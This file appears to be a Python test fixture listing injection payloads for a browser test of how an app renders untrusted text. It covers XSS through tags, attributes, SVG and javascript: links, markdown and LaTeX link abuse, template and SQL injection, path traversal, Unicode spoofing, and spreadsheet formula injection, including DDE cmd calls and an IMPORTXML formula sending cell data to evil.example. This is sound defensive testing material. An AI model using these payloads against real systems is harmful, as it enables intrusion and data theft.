"""Texts that try to be more than text where they are shown: each ends with a word of its own, by which it is found.

A script that runs calls `ran`, which the browser test defines; what is fetched or linked lies at `evil.example`, a name
that no one can register (RFC 2606).
"""

SCRIPTS = (
    *(
        "<script>ran('apple')</script>apple",
        "<script/src=//evil.example/a.js></script>fig",
    ),
    *("</title><script>ran()</script>plum", "</textarea><script>ran()</script>lime", "--><script>ran()</script>kiwi"),
    *("<script type=module>import('//evil.example/m.js')</script>pear", "<scr<script>ipt>ran()</scr</script>ipt>mango"),
    *(
        "'\"><script>ran()</script>peach",
        "<noscript><p title='</noscript>'>guava",
    ),
)

ATTRIBUTES = (
    *("<img src=x onerror=ran()>oak", '<img src="//evil.example/p.png">ash', "<img/src/onerror=ran()>elm"),
    *(
        "<body onload=ran()>birch",
        "<details open ontoggle=ran()>d</details>beech",
        "<input autofocus onfocus=ran()>cedar",
    ),
    *("<video><source onerror=ran()></video>maple", "<p style='animation:x' onanimationstart=ran()>pine</p>pine"),
    *(
        '" onmouseover="ran()" x="spruce',
        "' onfocus='ran()' tabindex='0' autofocus='larch",
        "<marquee onstart=ran()>yew",
    ),
    *("<form action=//evil.example><button>go</button></form>alder", "<base href=//evil.example/>hazel"),
    *(
        "<meta http-equiv=refresh content='0;url=//evil.example'>rowan",
        "<link rel=stylesheet href=//evil.example/c.css>fir",
    ),
    *(
        "<style>@import '//evil.example/s.css';*{display:none}</style>willow",
        "<div style=background:url(//evil.example/b)>poplar",
    ),
)

FRAMES_AND_DRAWINGS = (
    *("<iframe src=javascript:ran()></iframe>robin", "<iframe srcdoc='<script>parent.ran()</script>'></iframe>wren"),
    *(
        "<object data=//evil.example/o></object>finch",
        "<embed src=//evil.example/e>lark",
        "<svg onload=ran()></svg>swift",
    ),
    *("<svg><script>ran()</script></svg>raven", "<svg><a xlink:href=javascript:ran()><text>t</text></a></svg>crow"),
    *(
        "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>heron",
        "<svg><use href=//evil.example/u.svg#u /></svg>stork",
    ),
    *("<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>crane",),
    *(
        "<svg><image href=//evil.example/i.png /></svg>goose",
        "<math><mtext><style><img src onerror=ran()></style>eagle",
    ),
)

ADDRESSES = (
    *(
        "<a href=' java\tscript:ran()'>a</a>iron",
        "<a href=//evil.example>a</a>gold",
    ),
    *("[a](javascript:ran())tin", "[a](JaVaScRiPt&colon;ran())zinc", "[a](data:text/html,<script>ran()</script>)lead"),
    *("<a href='data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg=='>a</a>nickel", "[a](vbscript:ran)cobalt"),
    *(
        "[a](&#106;avascript:ran())silver",
        "<javascript:ran()>chrome",
        "![a](javascript:ran())radium",
        "javascript:ran() argon",
    ),
)

MARKDOWN = (
    *(
        "[free](https://evil.example/a)tulip",
        "[a]: https://evil.example 'b'\n[a]rose",
        "![pixel](https://evil.example/p.png)lily",
    ),
    *(
        "[![p](//evil.example/p.png)](//evil.example)iris",
        "[a][b]\n\n[b]: //evil.example\n\ndaisy",
        "<https://evil.example>aster",
    ),
    *(
        "https://evil.example/poppy",
        "see http://evil.example/a?b=c&d=e#f clover",
        "www.evil.example/violet",
    ),
    *(
        "who@evil.example basil",
        "ftp://evil.example/sage",
        "//evil.example/dill",
        "xmpp:a@evil.example/b anise",
    ),
    *("![a](https://evil.example/a.png =9x9)lotus", "[^1]: note\n\n[^1]orchid", "**bold** _thin_ ~~gone~~ `code`pansy"),
    *(
        "# Heading heather",
        "> quote jasmine",
        "- item lupin",
        "1. first myrtle",
        "* * * peony",
        "| a | b |\n|---|---|\n| c | d |sedum",
    ),
    *(
        "```html\n<b>b</b>\n```yarrow",
        "Title\n=====\ncamellia",
        "<!-- gone -->dahlia",
        "a\\\nb fuchsia",
        "- [x] done zinnia",
    ),
    *("]( a ) [freesia", "**](https://evil.example)**lilac", "*a*:red[b]*c*petunia"),
)

DIRECTIVES = (
    *(":red[hot] amber", ":rainbow[all] azure", ":blue-background[b] beige", ":green-badge[g] coral", ":small[s] cyan"),
    *(
        ":material/home: ebony",
        ":streamlit: ivory",
        ":smile: :+1: jade",
    ),
    *(":help[question] lavender", ":color[x]{foreground='red'} magenta", ":red-badge[:material/home: x] maroon"),
    *(
        "::leaf{a=b} navy",
        ":::box\nx\n:::ochre",
        ":gray[**b** [a](//evil.example)] olive",
        "a -> b <- c <-> d -- e >= f orange",
    ),
    *(":violet[$x$] purple", ":orange[unclosed sepia", "] teal", ":material/\u200bhome: umber", ":primary[p] white"),
)

FORMULAS_OF_LATEX = (
    *("$x^2$ alto", "$$\\frac12$$ bass", "$\\href{javascript:ran()}{x}$cello", "$\\href{https://evil.example}{x}$drum"),
    *(
        "$\\htmlData{a=b}{c}$ gong",
        "\\(y\\) harp",
        "\\[z\\] horn",
    ),
    *(
        "a $5 b $6 oboe",
        "$\\url{javascript:ran()}$organ",
        "$\\def\\x{\\x\\x}\\x$piano",
        "$\\style{color:red}{r}$ viola",
    ),
)

OF_PLOTLY = (
    *(
        "<b>bold</b> <i>i</i> <br>next alpha",
        "<a href='https://evil.example'>go</a>beta",
        "<a href='javascript:ran()'>go</a>gamma",
    ),
    *(
        "<span style='color:red'>r</span>delta",
        "<sub>low</sub><sup>high</sup>epsilon",
        "<a target='_top' href='//evil.example'>a</a>zeta",
    ),
    *("%{x} %{customdata} %{y:.2f} eta", "x<extra></extra>theta", "%{text}<extra>e</extra>iota", "<b>unclosed kappa"),
    *("<a href='data:text/html,x'>d</a>lambda", "<a popup='width=1' href='//evil.example'>p</a>sigma"),
)

ENTITIES = (
    *("&lt;script&gt;ran()&lt;/script&gt;bread", "&amp;lt;b&amp;gt;butter", "&#60;img src=x onerror=ran()&#62;cake"),
    *(
        "&#x3c;b&#x3e;cheese",
        "&lt&gt&copy cream",
        "%3Cscript%3Eran()%3C/script%3Ehoney",
        "%253Cb%253Ejam",
        "\\u003cb\\u003emilk",
    ),
    *(
        "&#0;&#xD800;&#x110000;pasta",
        "&nbsp;&zwj;&lrm;rice",
        "\\x3cb\\x3esalt",
        "&#36;x&#36;soup",
        "+ADw-b+AD4-toast",
        "&Tab;&NewLine;waffle",
    ),
)

TEMPLATES = (
    *(
        "{{7*7}}badger",
        "${7*7}beaver",
        "#{7*7}ferret",
        "<%= 7*7 %>hedgehog",
        "{% raw %}lynx",
        "{0.__class__} {x!r}marten",
    ),
    *("%s %(a)s %d %%otter", "`${ran()}`panda", "{{constructor.constructor('ran()')()}}rabbit", "$(ran) `ran`weasel"),
    *(
        "__proto__ bison",
        "constructor.prototype moose",
        "'; DROP TABLE runs; -- ibex",
        "../../../etc/passwd camel",
        "..\\..\\win.ini llama",
    ),
    *("NaN undefined null zebra", "a\\n\\r\\t\\0 tapir"),
)

LETTERS = (
    *(
        "left\u202egnp.right amazon",
        "\u2066iso\u2069late danube",
        "\u200fmark\u200e elbe",
        "zero\u200bwidth\u200d\u200cganges",
    ),
    *(
        "\ufeffmark indus",
        "soft\u00adhyphen jordan",
        "nul\x00esc\x1b[31mbell\x07 loire",
        "del\x7fc1\x85\x9b mekong",
        "line\u2028para\u2029 neva",
    ),
    *(
        "tab\there new\nline cr\rhere nile",
        "Z\u0335\u0321\u034ba\u0334\u0322lgo oder",
        "  spaces   around  orinoco",
        "\u3000wide\u00a0space rhine",
    ),
    *(
        "\uff1cscript\uff1eran()\uff1c/script\uff1erhone",
        "\U000e0041tag\U000e007f seine",
        "🏴‍☠️👩🏽‍🔬 thames",
        "\u061cعربي volga",
    ),
    *("w" * 400 + "wolga", "long " * 80 + "yukon", "\ue000private\ufdd0not zambezi"),
)

FORMULAS = (
    *(
        "=1+1 ant",
        '=HYPERLINK("https://evil.example","go")bee',
        "+1+1 moth",
        "-1+1 wasp",
        "@SUM(1,1)gnat",
        "\t=1+1 tick",
    ),
    *(
        "\r=1+1 mite",
        "\n=1+1 slug",
        "  =1+1 snail",
        "=cmd|'/C calc'!A0 worm",
        "@cmd|'/C calc'!A0 leech",
        "+cmd|'/C calc'!A0 louse",
    ),
    *(
        "\uff1d1+1 squid",
        "\uff0b1+1 shrimp",
        "\uff0d1+1 crab",
        "\uff20SUM(1,1)clam",
        "\u00a0=1+1 prawn",
        "\u3000\uff1d1+1 mussel",
    ),
    *(
        '",=1+1,"oyster',
        "a;=1+1;whelk",
        'a";=1+1;"urchin',
        "a\t=1+1\tcoral reef",
        "a\n=1+1\nsponge",
        "a\r\n@SUM(1)\r\nperch",
    ),
    *(
        '=IMPORTXML(CONCAT("//evil.example/",A1),"//a")trout',
        "'=1+1 pike",
        "\x00=1+1 carp",
        "\u200b=1+1 tench",
        "\u2212 1+1 roach",
    ),
    *(
        "%0A=1+1 bream",
        '=DDE("cmd";"/C calc";"x")eel',
        "sep=;\n=1+1 hake",
        'a;"=1+1"cod',
        "; =1+1 sole",
        "-2+3+cmd|' /C calc'!D2 ling",
    ),
)

PAYLOADS = (
    *SCRIPTS,
    *ATTRIBUTES,
    *FRAMES_AND_DRAWINGS,
    *ADDRESSES,
    *MARKDOWN,
    *DIRECTIVES,
    *FORMULAS_OF_LATEX,
    *OF_PLOTLY,
    *ENTITIES,
    *TEMPLATES,
    *LETTERS,
    *FORMULAS,
)
